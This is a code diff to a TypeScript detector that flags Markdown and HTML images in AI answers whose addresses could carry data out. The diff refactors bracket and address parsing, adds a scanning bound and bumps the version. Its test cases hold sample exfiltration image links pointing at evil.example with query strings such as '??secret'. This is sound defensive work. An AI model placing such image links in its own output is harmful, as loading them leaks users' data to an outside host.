@@ -4,6 +4,7 @@
 import { z } from 'zod';
 import { defineDetector, type Match } from '../../detector.ts';
 import { FEATURE } from '../../features.ts';
+import { Addresses, Brackets, isBlank } from './brackets.ts';
 
 const ALT_CHARS = 2_000;
 const URL_CHARS = 4_000;
@@ -11,8 +12,8 @@ const TITLE_CHARS = 500;
 const TAG_CHARS = 4_096;
 /** Names of files and hosts are shorter; data that is worth stealing rarely is. */
 const SEGMENT_CHARS = 32;
-/** CommonMark 0.31, 6.3: balanced brackets in an address, 32 deep at least. */
-const BRACKET_DEPTH = 32;
+
+type Read = { readonly brackets: Brackets; readonly addresses: Addresses };
 
 /** What stands at one place: `open` when it reaches the end of the text and could go on. */
 type Found =
@@ -25,49 +26,63 @@ type Found =
       /** Undefined where the address stands elsewhere. */
       readonly url?: string;
     };
+const [LESS, GREATER, SLASH, BACKSLASH] = [0x3c, 0x3e, 0x2f, 0x5c];
+const [QUOTE, APOSTROPHE, LINE_FEED] = [0x22, 0x27, 0x0a];
 const OPEN: Found = { kind: 'open' };
 const NONE: Found = { kind: 'none' };
 
-/** Scheme and slashes as lenient as browsers are; then user info, host, and all the rest. */
-const ADDRESS = /^(?:https?:[/\\]*|[/\\]{2,})([^/\\?#@]*@)?([^/\\?#:]*)(.*)$/is;
+/** Scheme and slashes as lenient as browsers are; then user info and host. */
+const ADDRESS = /^(?:https?:[/\\]*|[/\\]{2,})([^/\\?#@]*@)?([^/\\?#:]*)/i;
+const QUERY = 0x3f;
+const FRAGMENT = 0x23;
 
 /** True when loading `url` tells its host more than that somebody looked. */
 function carriesData(url: string, allowedHosts: readonly string[]): boolean {
-  const [, user, name, rest = ''] = ADDRESS.exec(url) ?? [];
-  if (name === undefined) return false;
-  const host = name.toLowerCase();
-  if (allowedHosts.some((allowed) => host === allowed || host.endsWith(`.${allowed}`)))
-    return false;
-  const [path = '', query = ''] = rest.replace(/#.*$/s, '').split('?', 2);
-  if (user !== undefined || query !== '' || rest.includes('&')) return true;
-  return [...host.split('.'), ...path.split(/[/\\]/)].some((part) => part.length >= SEGMENT_CHARS);
+  const found = ADDRESS.exec(url);
+  if (found === null) return false;
+  const [written, user, host = ''] = found;
+  const carries =
+    user !== undefined ||
+    url.includes('&', written.length) ||
+    pathCarries(url, written.length) ||
+    host.split('.').some((label) => label.length >= SEGMENT_CHARS);
+  return carries && !isAllowed(host.toLowerCase(), allowedHosts);
 }
 
-/** The bracket that closes each opening bracket at or after `from`. One pass, so that nests stay cheap. */
-function closingBrackets(text: string, from: number): ReadonlyMap<number, number> {
-  const closing = new Map<number, number>();
-  const open: number[] = [];
-  for (let at = from; at < text.length; at++) {
-    const char = text.charAt(at);
-    if (char === '\\') at++;
-    else if (char === '[') open.push(at);
-    else if (char === ']') {
-      const start = open.pop();
-      if (start !== undefined) closing.set(start, at);
+/** Whether a query, or a long segment, stands at or after `start`. The fragment is not sent. */
+function pathCarries(url: string, start: number): boolean {
+  let segment = start;
+  for (let at = start; at < url.length; at++) {
+    const code = url.charCodeAt(at);
+    if (code === FRAGMENT) return at - segment >= SEGMENT_CHARS;
+    if (code === QUERY) {
+      const next = url.charCodeAt(at + 1);
+      return at - segment >= SEGMENT_CHARS || !(Number.isNaN(next) || next === FRAGMENT);
     }
+    if (code !== SLASH && code !== BACKSLASH) continue;
+    if (at - segment >= SEGMENT_CHARS) return true;
+    segment = at + 1;
   }
-  return closing;
+  return url.length - segment >= SEGMENT_CHARS;
 }
+
+/** Whether `host` is one of `allowed`, or lies under it. */
+const isAllowed = (host: string, allowed: readonly string[]): boolean =>
+  allowed.some(
+    (one) =>
+      host.endsWith(one) &&
+      (host.length === one.length || host.charAt(host.length - one.length - 1) === '.'),
+  );
 
 /** `![alt](url "title")`, from the exclamation mark. */
-function inlineImage(text: string, start: number, closing: ReadonlyMap<number, number>): Found {
-  const close = closing.get(start + 1);
+function inlineImage(text: string, start: number, read: Read): Found {
+  const close = read.brackets.closing(start);
   if (close === undefined) return text.length - start > ALT_CHARS ? NONE : OPEN;
   if (close - start > ALT_CHARS) return NONE;
   if (close + 1 >= text.length) return OPEN;
   const next = text.charAt(close + 1);
   if (next === '[') return referenceImage(text, close + 1);
-  return next === '(' ? destination(text, close + 2) : NONE;
+  return next === '(' ? destination(text, close + 2, read.addresses) : NONE;
 }
 
 /** The second bracket of `![alt][label]`: where its address stands is not known here. */
@@ -82,20 +97,26 @@ function referenceImage(text: string, open: number): Found {
   return NONE;
 }
 
-/** The address, an optional title and the closing bracket. An address without end ends at its bound. */
-function destination(text: string, start: number): Found {
-  let at = start;
-  while (at - start < 8 && /\s/.test(text.charAt(at))) at++;
-  const angle = text.charAt(at) === '<';
-  const from = angle ? at + 1 : at;
-  let depth = 0;
-  for (at = from; at - from < URL_CHARS && at < text.length; at++) {
-    const char = text.charAt(at);
-    if (angle && (char === '<' || char === '\n')) return NONE;
-    if (angle ? char === '>' : /\s/.test(char)) break;
-    if (!angle && char === '(' && ++depth > BRACKET_DEPTH) return NONE;
-    if (!angle && char === ')' && depth-- === 0) break;
+/** Where an address in angle brackets ends; -1 when it cannot. */
+function angleEnd(text: string, from: number, stop: number): number {
+  let at = from;
+  for (; at < stop; at++) {
+    const code = text.charCodeAt(at);
+    if (code === GREATER) return at;
+    if (code === LESS || code === LINE_FEED) return -1;
   }
+  return at;
+}
+
+/** The address, an optional title and the closing bracket. An address without end ends at its bound. */
+function destination(text: string, start: number, addresses: Addresses): Found {
+  let first = start;
+  while (first - start < 8 && isBlank(text.charCodeAt(first))) first++;
+  const angle = text.charCodeAt(first) === LESS;
+  const from = angle ? first + 1 : first;
+  const stop = Math.min(text.length, from + URL_CHARS);
+  const at = angle ? angleEnd(text, from, stop) : addresses.end(from, stop);
+  if (at < 0) return NONE;
   if (at >= text.length) return OPEN;
   const url = text.slice(from, at);
   if (at - from >= URL_CHARS) return { kind: 'link', end: at, entity: 'image', url };
@@ -116,14 +137,14 @@ function htmlTag(text: string, start: number): Found {
   if (!TAG.test(name)) {
     return start + name.length >= text.length && /^<[a-z]*$/i.test(name) ? OPEN : NONE;
   }
-  let quote = '';
+  let quote = 0;
   for (let at = start + 1; at - start < TAG_CHARS; at++) {
     if (at >= text.length) return OPEN;
-    const char = text.charAt(at);
-    if (quote !== '') quote = char === quote ? '' : quote;
-    else if (char === '"' || char === "'") quote = char;
-    else if (char === '<') return NONE;
-    else if (char === '>') return tagLink(text.slice(start, at + 1), at + 1);
+    const code = text.charCodeAt(at);
+    if (quote !== 0) quote = code === quote ? 0 : quote;
+    else if (code === QUOTE || code === APOSTROPHE) quote = code;
+    else if (code === LESS) return NONE;
+    else if (code === GREATER) return tagLink(text.slice(start, at + 1), at + 1);
   }
   return NONE;
 }
@@ -159,26 +180,25 @@ const NEEDS = FEATURE.bang | FEATURE.less | FEATURE.bracket;
 
 type Place = { readonly start: number; readonly found: Found };
 
-/** Constructs at or after `from` that are findings or still open, one by one. */
+/** Constructs in [from, until) that are findings or still open, one by one. */
 function* placesIn(
   text: string,
   from: number,
-  allowedHosts: readonly string[],
+  scope: { readonly allowedHosts: readonly string[]; readonly until: number },
 ): Generator<Place, void> {
-  let closing: ReadonlyMap<number, number> | undefined;
+  const read = { brackets: new Brackets(text), addresses: new Addresses(text) };
   INTRODUCER.lastIndex = from;
   for (let hit = INTRODUCER.exec(text); hit !== null; hit = INTRODUCER.exec(text)) {
     const start = hit.index;
+    if (start >= scope.until) return;
     const char = text.charAt(start);
     let found = NONE;
-    if (char === '!') {
-      closing ??= closingBrackets(text, start);
-      found = inlineImage(text, start, closing);
-    } else found = char === '<' ? htmlTag(text, start) : definition(text, start);
+    if (char === '!') found = inlineImage(text, start, read);
+    else found = char === '<' ? htmlTag(text, start) : definition(text, start);
     INTRODUCER.lastIndex = start + 1;
     if (found.kind === 'none') continue;
     if (found.kind === 'link') {
-      if (found.url !== undefined && !carriesData(found.url, allowedHosts)) continue;
+      if (found.url !== undefined && !carriesData(found.url, scope.allowedHosts)) continue;
       INTRODUCER.lastIndex = found.end;
     }
     yield { start, found };
@@ -187,7 +207,7 @@ function* placesIn(
 
 export const detector = defineDetector({
   id: 'output/markdown-exfiltration',
-  version: '1',
+  version: '2',
   title: 'Image that carries data out',
   summary:
     'Finds Markdown and HTML images in answers whose address holds a query, a long path segment or a long host label, and reference-style images.',
@@ -228,6 +248,7 @@ export const detector = defineDetector({
         text: "x <IMG alt='>' src=https://evil.example/?x=1> y",
         found: ["<IMG alt='>' src=https://evil.example/?x=1>"],
       },
+      { text: '![](//evil.example/??secret)', found: ['![](//evil.example/??secret)'] },
       { text: '![pic][1] text', found: ['![pic][1]'] },
       {
         text: `\n[1]: https://e.example/${'QUJD'.repeat(10)}\n`,
@@ -245,10 +266,11 @@ export const detector = defineDetector({
       '![never closed',
     ],
   },
-  inspect({ text, features }, from, { options }) {
+  inspect({ text, features }, from, { options, until }) {
     if ((features & NEEDS) === 0) return [];
     const matches: Match[] = [];
-    for (const { start, found } of placesIn(text, from, options.allowed_hosts)) {
+    const scope = { allowedHosts: options.allowed_hosts, until };
+    for (const { start, found } of placesIn(text, from, scope)) {
       if (found.kind !== 'link') continue;
       matches.push({ start, end: found.end, entity: found.entity, score: 0.99 });
     }
@@ -258,7 +280,8 @@ export const detector = defineDetector({
     const last = text.charAt(text.length - 1);
     const partial = last === '!' || last === '<' ? text.length - 1 : text.length;
     if ((features & NEEDS) === 0) return partial;
-    for (const { start, found } of placesIn(text, from, options.allowed_hosts)) {
+    const scope = { allowedHosts: options.allowed_hosts, until: text.length };
+    for (const { start, found } of placesIn(text, from, scope)) {
       if (found.kind === 'open') return start;
     }
     return partial;
